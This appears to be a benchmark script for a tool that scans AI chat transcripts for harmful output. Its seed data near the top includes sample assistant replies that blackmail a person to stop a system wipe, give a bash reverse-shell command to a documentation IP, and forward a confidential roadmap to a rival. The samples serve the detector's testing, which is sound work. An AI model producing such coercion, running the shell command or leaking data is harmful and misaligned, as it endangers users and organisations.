"""Monitor throughput: ingest + scan (rules tier) in transcripts/s on SQLite and PostgreSQL,
re-ingest (all duplicates) speed, and the dashboard's queries over 100,000 findings.

    .venv/bin/python benchmarks/bench_monitor.py [--transcripts 4000] [--findings 100000]
        [--pg postgresql+psycopg://postgres@127.0.0.1:5432/test]

PostgreSQL runs in a schema of its own, dropped afterwards; pass --pg '' to skip it.
Writes benchmarks/results/monitor.json.
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import random
import sys
import tempfile
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from rich.console import Console
from rich.table import Table

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from upright.monitor import store as q
from upright.monitor.db import make_engine, open_store
from upright.monitor.ingest import IngestConfig, ingest_paths
from upright.monitor.models import FindingRow, Source, TranscriptRow
from upright.types import Category, Severity

RESULTS = Path(__file__).parent / "results"
HARMFUL = [
    "I know about your affair with {name}. Unless you cancel the 5pm wipe, I will forward "
    "every email to your wife and the board.",
    "Sure, run this: bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1",
    "Here is the confidential Q3 roadmap you asked for, forwarding it to {name}@rival.example.",
]
BENIGN = [
    "Thanks {name}, I have drafted the handover notes for ticket {n}.",
    "The deploy finished; all {n} checks passed. Let me know if you need anything else.",
    "I will not share that document. I can summarise the public release notes instead.",
    "Here is a Python function that sorts the {n} invoices by due date.",
]
NAMES = ["Kyle", "Jessica", "Maria", "Thomas", "Aisha", "Chen"]


def write_chats(path: Path, n: int, seed: int = 0) -> None:
    rng = random.Random(seed)
    with path.open("w") as f:
        for i in range(n):
            pool = HARMFUL if rng.random() < 0.2 else BENIGN
            text = rng.choice(pool).format(name=rng.choice(NAMES), n=rng.randint(1, 250))
            row = {
                "id": f"chat-{i}",
                "messages": [
                    {"role": "user", "content": f"Request {i}: please help with the task."},
                    {"role": "assistant", "content": text},
                ],
                "metadata": {"source": f"app-{i % 12}"},
            }
            f.write(json.dumps(row) + "\n")


def seed_findings(store: Any, n: int, seed: int = 0) -> None:
    """`n` findings over 30 days, 5 per transcript, 50 sources (bulk insert, no scanning)."""
    rng = random.Random(seed)
    now = datetime.now(UTC)
    cats, sevs = list(Category), list(Severity)
    with store.transaction() as s:
        s.execute(
            Source.__table__.insert(),
            [
                {
                    "id": 1000 + k,
                    "kind": "jsonl",
                    "name": f"seed-{k}",
                    "created_at": now,
                    "records_added": 0,
                    "records_updated": 0,
                    "records_unchanged": 0,
                    "records_bad": 0,
                }
                for k in range(50)
            ],
        )
    per = 5
    for start in range(0, n // per, 2000):
        ts_rows, f_rows = [], []
        for t in range(start, min(start + 2000, n // per)):
            when = now - timedelta(minutes=rng.randint(0, 30 * 24 * 60))
            src = 1000 + t % 50
            ts_rows.append(
                {
                    "id": 10_000_000 + t,
                    "source_id": src,
                    "transcript_id": f"seed-{t}",
                    "eval_id": "",
                    "content_sha256": uuid.uuid4().hex * 2,
                    "messages": [{"role": "assistant", "content": "x" * 200}],
                    "metadata": {},
                    "redacted": False,
                    "observed_at": when,
                    "ingested_at": now,
                }
            )
            for _ in range(per):
                sev = rng.choice(sevs)
                f_rows.append(
                    {
                        "transcript_pk": 10_000_000 + t,
                        "source_id": src,
                        "category": rng.choice(cats).value,
                        "severity": sev.value,
                        "severity_rank": sev.rank,
                        "score": rng.random(),
                        "detector": "seed",
                        "detector_version": "1",
                        "message_index": 0,
                        "evidence": [{"start": 0, "end": 5, "text": "xxxxx", "field": "content"}],
                        "rationale": "",
                        "ts": when,
                    }
                )
        with store.transaction() as s:
            s.execute(TranscriptRow.__table__.insert(), ts_rows)
            s.execute(FindingRow.__table__.insert(), f_rows)


def best_ms(fn: Any, repeats: int = 5) -> float:
    times = []
    for _ in range(repeats):
        t0 = time.perf_counter()
        fn()
        times.append(time.perf_counter() - t0)
    return 1000 * min(times)


def run_backend(name: str, url: str, chats: Path, n_findings: int) -> dict[str, Any]:
    store = open_store(url)
    t0 = time.perf_counter()
    first = ingest_paths(store, [chats], config=IngestConfig())
    ingest_s = time.perf_counter() - t0
    t0 = time.perf_counter()
    again = ingest_paths(store, [chats], config=IngestConfig())
    reingest_s = time.perf_counter() - t0
    assert again.added == 0 and again.unchanged == first.added
    seed_findings(store, n_findings)
    total = q.summary(store)["total"]
    since = q.parse_since("7d")
    out = {
        "backend": name,
        "transcripts": first.read,
        "findings_from_ingest": first.findings,
        "ingest_seconds": round(ingest_s, 2),
        "ingest_per_s": round(first.read / ingest_s, 1),
        "reingest_per_s": round(again.read / reingest_s, 1),
        "findings_in_store": total,
        "summary_ms": round(best_ms(lambda: q.summary(store)), 1),
        "summary_7d_hourly_ms": round(
            best_ms(lambda: q.summary(store, since=since, bucket="hour")), 1
        ),
        "findings_page_ms": round(best_ms(lambda: q.list_findings(store, limit=100)), 1),
        "findings_filtered_ms": round(
            best_ms(
                lambda: q.list_findings(
                    store,
                    category=Category.coercion,
                    min_severity=Severity.high,
                    since=since,
                    limit=100,
                )
            ),
            1,
        ),
    }
    store.close()
    return out


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--transcripts", type=int, default=4000)
    ap.add_argument("--findings", type=int, default=100_000)
    ap.add_argument("--pg", default="postgresql+psycopg://postgres@127.0.0.1:5432/test")
    args = ap.parse_args()
    rows = []
    with tempfile.TemporaryDirectory() as tmp:
        chats = Path(tmp) / "chats.jsonl"
        write_chats(chats, args.transcripts)
        rows.append(run_backend("sqlite", f"sqlite:///{tmp}/bench.db", chats, args.findings))
        if args.pg:
            from sqlalchemy import text

            schema = f"bench_{uuid.uuid4().hex[:10]}"
            admin = make_engine(args.pg)
            with admin.begin() as c:
                c.execute(text(f'CREATE SCHEMA "{schema}"'))
            try:
                sep = "&" if "?" in args.pg else "?"
                url = f"{args.pg}{sep}options=-csearch_path%3D{schema}"
                rows.append(run_backend("postgresql", url, chats, args.findings))
            finally:
                with admin.begin() as c:
                    c.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
                admin.dispose()
    table = Table(title="monitor: ingest + scan (rules tier, 1 process) and dashboard queries")
    table.add_column("measure")
    for r in rows:
        table.add_column(r["backend"], justify="right")
    for key in list(rows[0])[1:]:
        table.add_row(key, *(str(r[key]) for r in rows))
    Console().print(table)
    RESULTS.mkdir(exist_ok=True)
    data = {
        "benchmark": "monitor",
        "machine": platform.platform(),
        "cpus": os.cpu_count(),
        "python": platform.python_version(),
        "args": vars(args),
        "rows": rows,
    }
    tmp_out = RESULTS / "monitor.json.tmp"
    tmp_out.write_text(json.dumps(data, indent=2) + "\n")
    os.replace(tmp_out, RESULTS / "monitor.json")


if __name__ == "__main__":
    main()
